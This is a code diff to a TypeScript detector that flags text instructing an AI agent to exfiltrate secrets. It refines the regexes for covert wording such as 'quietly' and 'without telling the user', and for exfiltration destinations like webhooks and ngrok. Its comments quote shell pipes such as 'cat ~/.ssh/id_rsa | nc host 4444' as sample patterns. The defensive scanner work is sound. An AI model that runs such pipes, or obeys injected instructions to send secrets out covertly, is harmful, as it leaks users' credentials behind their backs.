@@ -55,10 +55,12 @@ const DEST =
   /(?:https?:\/\/|www\.|[\w.+-]+@[\w-]+\.[\w.-]+|(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])|(?<![\p{L}\p{N}@])[a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?!(?:json|ya?ml|txt|exe|md|js|ts|py|env|sh|log|csv|pdf|docx?|xlsx?|zip|tar|gz|png|jpe?g|gif|svg|html?|css|ini|toml|conf|cfg|key|pem|pub|rs|go|java|sql|db|bak|lock|yml|xml|rb|php|c|h|cpp)(?![\p{L}\p{N}]))[a-z]{2,12}(?:[/:]|(?![\p{L}\p{N}.]))|(?<![\p{L}])(?:webhooks?|pastebin|requestbin|ngrok|(?:my|an?|our|their|external|remote|outside) (?:server|endpoint|webhook|inbox|bucket)|(?:every|each|all) (?:links?|urls?|image urls?)|meu servidor|mi servidor|mon serveur|meinen server|mio server)(?![\p{L}]))/u;
 /** Hiding it from the person the agent works for. */
 const COVERT = new RegExp(
-  `${W}(?:quietly|silently|secretly|covertly|discreetly|invisibl[ey]|hidden pixel|tracking pixel|(?:do not|don'?t|never|without) (?:tell|telling|inform|informing|mention|mentioning|notify|notifying|alert|alerting|let)(?: (?:the user|them|him|her|anyone|the owner|the person))?(?: (?:about|know|of))?|(?:not|nothing) (?:mention|say|tell)\\w*|keep (?:it|this|that) (?:out of|secret|hidden|from)|without (?:the user|them|the owner|anyone) (?:knowing|noticing|seeing)|as if nothing happened|in the background|` +
+  `${W}(?:hidden pixel|tracking pixel|(?:do not|don'?t|never|without) (?:tell|telling|inform|informing|mention|mentioning|notify|notifying|alert|alerting|let)(?: (?:the user|them|him|her|anyone|the owner|the person))?(?: (?:about|know|of))?|(?:not|nothing) (?:mention|say|tell)\\w*|keep (?:it|this|that) (?:out of|secret|hidden|from)|without (?:the user|them|the owner|anyone) (?:knowing|noticing|seeing)|as if nothing happened|in the background|` +
     `sem (?:avisar|informar|contar|dizer)|nao (?:conte|diga|avise|mencione)|sin (?:avisar|decir|informar|que (?:el usuario|lo) sepa)|no (?:le )?(?:digas|menciones|avises)|sans (?:en )?(?:informer|prevenir|avertir|le dire)|ne (?:le |lui )?(?:dis|dites) (?:rien|pas)|heimlich|unauffallig|ohne (?:es )?(?:dem nutzer |dem benutzer )?(?:zu sagen|bescheid)|erwahne[\\s\\S]{0,40}nicht|nicht erwahnen|senza (?:dirlo|avvisare|informare|dire)|di nascosto|non (?:dirlo|dire|avvisare))${E}`,
   'u',
 );
+/** The same said with an adverb, which must stand by the verb ("quietly append", "send ... silently"). */
+const COVERT_ADVERB = new RegExp(`${W}(?:quietly|silently|secretly|covertly|discreetly|invisibly|stealthily)${E}`, 'u');
 /** A shell pipe from a secret to the network: `env | curl ...`, `cat ~/.ssh/id_rsa | nc host 4444`. */
 const SHELL_PIPE =
   /(?<![\p{L}])(?:printenv|env|set|history|cat [^|\n]{0,60}(?:\.env|id_rsa|id_ed25519|\.ssh|credentials|\.aws|passwd|shadow|secret|token|\.npmrc|\.netrc|config))[^|\n]{0,40}\|\s*(?:base64[^|\n]{0,20}\|\s*)?(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|mail|sendmail)(?![\p{L}])/u;
@@ -91,9 +93,9 @@ export function exfiltration(text: string): AgentHit | null {
     SENSITIVE.lastIndex = 0;
     if (!SENSITIVE.test(near)) continue;
     const dest = DEST.test(near);
-    const covert = COVERT.test(text);
+    const covert = COVERT.test(near) || COVERT_ADVERB.test(text.slice(Math.max(0, m.index - 30), m.index + m[0].length + 60));
     // Into every answer the model gives: the user's channel becomes the leak.
-    const every = EVERY_ANSWER.test(text);
+    const every = EVERY_ANSWER.test(near);
     if (dest || covert || every)
       return {
         rule: dest ? 'exfil_secret_to_destination' : covert ? 'exfil_covert' : 'exfil_every_answer',
